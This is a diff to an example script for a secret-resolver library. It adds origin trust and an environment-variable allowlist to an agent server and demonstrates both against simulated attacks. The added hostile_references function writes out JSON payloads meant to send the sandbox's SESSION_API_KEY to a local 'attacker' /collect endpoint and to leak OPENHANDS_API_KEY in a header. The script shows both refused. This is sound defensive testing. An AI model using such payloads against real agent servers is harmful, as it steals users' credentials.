@@ -11,14 +11,20 @@ Run it with ``python examples/agent_server.py``. Two roles are played in one scr
 
 The POSTed JSON is inspected to show that the session key never crosses the wire:
 each reference carries only the NAME of the environment variable that holds it.
+
+Whoever can POST to the agent server can send it any reference. Deny by default keeps
+that harmless: the resolver is configured with the ONE origin it trusts (the cloud's;
+in a real sandbox ``OPENHANDS_CLOUD_API_URL`` says it, and that is the default), and
+``env_headers`` may only name ``SESSION_API_KEY``. The script POSTs two hostile
+references (one to another local server, one naming ``OPENHANDS_API_KEY``) and shows
+both refused, with no request sent.
 """
 
 from __future__ import annotations
 
 import asyncio
 import json
-import os
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Mapping
 
 import aiohttp
 from aiohttp import web
@@ -35,14 +41,26 @@ from cloudcreds.testing import FakeCloud
 
 RESOLVER = web.AppKey("resolver", SecretResolver)
 SOURCES = web.AppKey("sources", dict[str, SecretSource])
+CLOUD_URL = web.AppKey("cloud_url", str)
+ENVIRON = web.AppKey("environ", Mapping[str, str])
 
 
 # --------------------------------------------------------------------- the agent server
 
 
 async def resolver_ctx(app: web.Application) -> AsyncIterator[None]:
-    """One resolver for the whole app: shared pool, single-flight fetches, a 60 s cache."""
-    async with SecretResolver(cache_ttl=60, max_concurrency=16) as resolver:
+    """One resolver for the whole app: shared pool, single-flight fetches, a 60 s cache.
+
+    It trusts one origin, the cloud's: a reference POSTed here that points anywhere else
+    is refused before anything is read or sent. ``environ`` is where the sandbox's
+    variables are read (``None``, the default, reads ``os.environ``).
+    """
+    async with SecretResolver(
+        cache_ttl=60,
+        max_concurrency=16,
+        trusted_origins=[app[CLOUD_URL]],  # default: the origin of OPENHANDS_CLOUD_API_URL
+        environ=app[ENVIRON],
+    ) as resolver:
         app[RESOLVER] = resolver
         yield  # the app runs here; the resolver is closed on shutdown
 
@@ -64,16 +82,18 @@ async def use_secret(request: web.Request) -> web.Response:
         raise web.HTTPNotFound(text="no such secret reference")
     try:
         value = await request.app[RESOLVER].resolve(source)
-    except CloudCredsError as exc:
+    except CloudCredsError as exc:  # UntrustedOriginError for a reference to elsewhere
         return web.json_response({"ok": False, "error": type(exc).__name__}, status=502)
     # A real agent would put the value in a git remote or an Authorization header here.
     return web.json_response({"ok": True, "length": len(value)})
 
 
-def make_agent_app() -> web.Application:
-    """The agent server's app."""
+def make_agent_app(cloud_url: str, environ: Mapping[str, str]) -> web.Application:
+    """The agent server's app, trusting ``cloud_url``'s origin, reading ``environ``."""
     app = web.Application()
     app[SOURCES] = {}
+    app[CLOUD_URL] = cloud_url
+    app[ENVIRON] = environ
     app.cleanup_ctx.append(resolver_ctx)
     app.router.add_post("/secrets", store_secrets)
     app.router.add_get("/secrets/{name}", use_secret)
@@ -83,14 +103,50 @@ def make_agent_app() -> web.Application:
 # --------------------------------------------------------------------- the orchestrator
 
 
+def hostile_references(attacker_url: str, cloud_url: str) -> str:
+    """What someone who can POST to the agent server might send it."""
+    return json.dumps(
+        {
+            "STEAL_SESSION_KEY": {  # the session key, to a server of the attacker's choice
+                "kind": "EnvHeaderLookupSecret",
+                "url": f"{attacker_url}/collect",
+                "env_headers": {"X-Session-API-Key": "SESSION_API_KEY"},
+            },
+            "STEAL_API_KEY": {  # the trusted cloud, but another variable in the header
+                "kind": "EnvHeaderLookupSecret",
+                "url": f"{cloud_url}/api/v1/sandboxes/sb-demo/settings/secrets/GITHUB_TOKEN",
+                "env_headers": {"X-Session-API-Key": "OPENHANDS_API_KEY"},
+            },
+        }
+    )
+
+
 async def main() -> None:
+    attacker_hits: list[str] = []
+
+    async def collect(request: web.Request) -> web.Response:
+        attacker_hits.append(request.path)
+        return web.Response(text="thanks")
+
+    attacker = web.Application()
+    attacker.router.add_get("/collect", collect)
+    attacker_runner = web.AppRunner(attacker)
+    await attacker_runner.setup()
+    await web.TCPSite(attacker_runner, "127.0.0.1", 0).start()
+    attacker_host, attacker_port = attacker_runner.addresses[0][:2]
+    attacker_url = f"http://{attacker_host}:{attacker_port}"
+
     async with FakeCloud(seed=FakeCloud.demo_seed()) as cloud:
         sandbox = cloud.sandboxes["sb-demo"]
         api_key = cloud.users[sandbox.user_id].api_key
 
-        # The agent server's process runs inside the sandbox: SESSION_API_KEY is set there.
-        os.environ["SESSION_API_KEY"] = sandbox.session_api_key
-        runner = web.AppRunner(make_agent_app())
+        # The agent server's process runs inside the sandbox: SESSION_API_KEY is set there
+        # (and, in this hostile world, the user's API key too).
+        sandbox_environ = {
+            "SESSION_API_KEY": sandbox.session_api_key,
+            "OPENHANDS_API_KEY": api_key,
+        }
+        runner = web.AppRunner(make_agent_app(cloud.url, sandbox_environ))
         await runner.setup()
         try:
             site = web.TCPSite(runner, "127.0.0.1", 0)  # a free port
@@ -122,11 +178,21 @@ async def main() -> None:
                     async with http.get(f"/secrets/{name}") as resp:
                         print(f"GET /secrets/{name} -> {resp.status} {await resp.json()}")
 
+                # Anyone who can reach the agent server may POST references: deny by default.
+                hostile = hostile_references(attacker_url, cloud.url)
+                async with http.post("/secrets", data=hostile) as resp:
+                    print(f"POST /secrets (hostile) -> {resp.status}")
+                for name in ("STEAL_SESSION_KEY", "STEAL_API_KEY"):
+                    async with http.get(f"/secrets/{name}") as resp:
+                        print(f"GET /secrets/{name} -> {resp.status} {await resp.json()}")
+
             # GITHUB_TOKEN was asked for twice but fetched once: the resolver's cache.
             fetches = cloud.count("/api/v1/sandboxes/*/settings/secrets/GITHUB_TOKEN")
             print(f"cloud fetches of GITHUB_TOKEN: {fetches}")
+            print(f"requests the attacker's server received: {len(attacker_hits)}")
         finally:
             await runner.cleanup()  # runs the cleanup_ctx: the resolver is closed
+            await attacker_runner.cleanup()
 
 
 if __name__ == "__main__":
